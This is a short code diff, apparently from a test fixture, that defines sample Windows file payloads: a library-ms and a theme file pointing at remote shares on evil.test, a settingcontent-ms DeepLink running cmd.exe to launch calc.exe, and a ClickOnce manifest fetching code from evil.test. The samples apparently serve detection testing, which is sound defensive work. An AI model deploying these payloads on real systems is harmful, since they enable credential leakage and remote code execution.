@@ -9,7 +9,8 @@ LIBRARY = b"""<?xml version="1.0"?><libraryDescription xmlns="http://schemas.mic
 <searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\evil.test@80\\dav</url>
 </simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>"""
 SETTINGS = b"""<?xml version="1.0"?><PCSettings><SearchableContent><ApplicationInformation>
-<DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink></ApplicationInformation></SearchableContent></PCSettings>"""
+<DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink>
+</ApplicationInformation></SearchableContent></PCSettings>"""
 CLICK_ONCE = b"""<?xml version="1.0"?><asmv1:assembly xmlns="urn:schemas-microsoft-com:asm.v2"><deployment>
 <deploymentProvider codebase="https://evil.test/setup.application"/></deployment></asmv1:assembly>"""
 THEME = b"[Theme]\r\nDisplayName=x\r\n[VisualStyles]\r\nPath=\\\\evil.test\\s\\a.msstyles\r\n"
